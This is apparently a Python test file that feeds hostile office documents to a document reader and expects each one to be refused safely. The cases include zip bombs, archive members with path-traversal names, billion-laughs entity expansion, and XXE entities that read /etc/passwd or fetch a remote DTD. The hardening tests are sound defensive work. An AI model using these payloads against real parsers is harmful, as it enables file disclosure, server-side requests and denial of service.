"""Documents that are zip archives: bombs, lies, entities, parts that climb out of them."""

from pathlib import Path

from tests.hostile.case import Case, Make, raw
from tests.hostile.packed import (
    CONTENT,
    DOCUMENT,
    LAUGHS,
    a_docx,
    a_zip,
    an_odt,
    an_xlsx,
    lazy,
    locked,
    many,
    overlong_list,
    tenths,
    zeros,
)

_PASSWD = "root:x:0:0"  # noqa: S105 - the first line of a file that anybody may read
_OUTSIDE = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_FETCHED = '<!DOCTYPE d [<!ENTITY % x SYSTEM "http://127.0.0.1:9/evil.dtd"> %x;]>'
_LARGER = "is not read: unpacked it would be far larger than any interview. Hint: save the text"
_TRAP = "is not read: it defines entities of its own, which no document needs and a trap does"
_BROKEN = "is broken: not a whole file of its format. Hint: fetch it again"
_NO_PROJECT = "study.qdpx: is broken: not a whole REFI-QDA project. Hint: export the project again"
_TALK = "We must trust each other more."
_PARAGRAPH = f"<text:p>{_TALK}</text:p>"


def _nested(folder: Path) -> None:
    """A document in which there is a bomb in an archive in an archive."""
    inner = a_zip({"deep.zip": a_zip({"deeper.zip": zeros("zero.bin", 40)})})
    content = a_docx(DOCUMENT.format(dtd="", said=_TALK), word__media__a=inner)
    (folder / "x.docx").write_bytes(content)


def _climbing(folder: Path) -> None:
    parts = {"../../climbed.txt": "out", "/hostile-climbed.txt": "out", "C:\\climbed": "out"}
    more = {name.replace("/", "__"): content for name, content in parts.items()}
    (folder / "x.docx").write_bytes(a_docx(DOCUMENT.format(dtd="", said=_TALK), **more))


def _cut_in_tenths(name: str, content: bytes) -> Make:
    def make(folder: Path) -> None:
        for number, cut in enumerate(tenths(content), start=1):
            (folder / f"cut{number}{name}").write_bytes(cut)

    return make


_PLAIN_DOCX = a_docx(DOCUMENT.format(dtd="", said=_TALK))
_WIDE_ROWS = "".join(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(1, 3_000))

CASES = (
    Case(
        "a docx that unpacks to 4 GB",
        lazy("x.docx", zeros, "word/document.xml", 4095),
        (f"x.docx: {_LARGER}",),
        seconds=60,
    ),
    Case(
        "a docx of 300 MB",
        lazy("x.docx", zeros, "word/document.xml", 300),
        (f"x.docx: {_LARGER}",),
    ),
    Case(
        "a docx that unpacks to 300 MB and says 100 bytes",
        lazy("x.docx", zeros, "word/document.xml", 300, told=100),
        (f"x.docx: {_LARGER}",),
    ),
    Case(
        "an odt that unpacks to 300 MB and says 100 bytes",
        lazy("x.odt", zeros, "content.xml", 300, told=100),
        (f"x.odt: {_LARGER}",),
    ),
    Case(
        "an xlsx that unpacks to 300 MB and says 100 bytes",
        lazy("x.xlsx", zeros, "xl/workbook.xml", 300, told=100),
        (f"x.xlsx: {_LARGER}",),
    ),
    Case(
        "a docx that unpacks to 1 MB and says 100 bytes",
        lazy("x.docx", zeros, "word/document.xml", 1, told=100),
        (f"x.docx: {_BROKEN}",),
    ),
    Case("a docx of 100,000 parts", lazy("x.docx", many, 100_000), (f"x.docx: {_LARGER}",)),
    Case(
        "a docx that tells of a list of 40 MB",
        lazy("x.docx", overlong_list, 40_000_000),
        (f"x.docx: {_LARGER}",),
    ),
    Case("a docx with bombs inside an archive inside it", _nested, (), code=0),
    Case("a docx with parts that climb out of it", _climbing, (), code=0),
    Case(
        "a docx with a password",
        raw("x.docx", locked(_PLAIN_DOCX)),
        ("x.docx: is protected by a password. Hint: save a copy without one",),
    ),
    Case(
        "a docx cut off at each tenth",
        _cut_in_tenths(".docx", _PLAIN_DOCX),
        tuple(f"cut{n}.docx: {_BROKEN}" for n in range(1, 10)),
    ),
    Case(
        "an xlsx cut off at each tenth",
        _cut_in_tenths(".xlsx", an_xlsx("")),
        tuple(f"cut{n}.xlsx: {_BROKEN}" for n in range(1, 10)),
    ),
    Case(
        "an odt cut off at each tenth",
        _cut_in_tenths(".odt", an_odt(CONTENT.format(dtd="", said=_PARAGRAPH))),
        tuple(f"cut{n}.odt: {_BROKEN}" for n in range(1, 10)),
    ),
    Case(
        "a picture named docx",
        raw("x.docx", b"\x89PNG\r\n\x1a\n" + bytes(100)),
        (f"x.docx: {_BROKEN}",),
    ),
    Case(
        "a docx that is an xlsx",
        raw("x.docx", an_xlsx("")),
        ("x.docx: is not a Word document that can be read",),
    ),
    Case(
        "a docx of a billion laughs",
        raw("x.docx", a_docx(DOCUMENT.format(dtd=LAUGHS, said="&i;"))),
        (f"x.docx: {_TRAP}",),
        unsaid=("ha ha",),
    ),
    Case(
        "a docx of a billion laughs in UTF-16",
        raw(
            "x.docx",
            a_docx(
                DOCUMENT.replace('"1.0"', '"1.0" encoding="UTF-16"')
                .format(dtd=LAUGHS, said="&i;")
                .encode("utf-16")
            ),
        ),
        (f"x.docx: {_TRAP}",),
        unsaid=("ha ha",),
    ),
    Case(
        "a docx that asks for a file of the system",
        raw("x.docx", a_docx(DOCUMENT.format(dtd=_OUTSIDE, said="&x;"))),
        (f"x.docx: {_TRAP}",),
        unsaid=(_PASSWD,),
    ),
    Case(
        "an odt of a billion laughs",
        raw("x.odt", an_odt(CONTENT.format(dtd=LAUGHS, said="<text:p>&i;</text:p>"))),
        (f"x.odt: {_TRAP}",),
        unsaid=("ha ha",),
    ),
    Case(
        "an odt that asks for a file of the system",
        raw("x.odt", an_odt(CONTENT.format(dtd=_OUTSIDE, said="<text:p>trust &x;</text:p>"))),
        (f"x.odt: {_TRAP}",),
        unsaid=(_PASSWD,),
    ),
    Case(
        "an odt that asks for a page of the web",
        raw("x.odt", an_odt(CONTENT.format(dtd=_FETCHED, said=_PARAGRAPH))),
        (f"x.odt: {_TRAP}",),
    ),
    Case(
        "an odt with a thousand million spaces",
        raw(
            "x.odt",
            an_odt(
                CONTENT.format(
                    dtd="", said='<text:p>We trust<text:s text:c="999999999"/>you.</text:p>'
                )
            ),
        ),
        code=0,
    ),
    Case(
        "an odt nested ten thousand deep",
        raw(
            "x.odt",
            an_odt(
                CONTENT.format(
                    dtd="",
                    said="<text:p><text:span>" * 10_000
                    + "trust"
                    + "</text:span></text:p>" * 10_000,
                )
            ),
        ),
        ("x.odt: is not an OpenDocument text that can be read",),
    ),
    Case(
        "an xlsx of wide rows",
        raw("x.xlsx", an_xlsx(_WIDE_ROWS)),
        ("x.xlsx: is not an Excel workbook that can be read (ValueError)",),
    ),
    Case(
        "an xlsx whose one cell is the last of all",
        raw("x.xlsx", an_xlsx('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')),
        code=0,
    ),
    Case(
        "an xlsx of a billion laughs",
        raw("x.xlsx", an_xlsx(f"{LAUGHS}<row>&i;</row>")),
        (f"x.xlsx: {_TRAP}",),
        unsaid=("ha ha",),
    ),
)
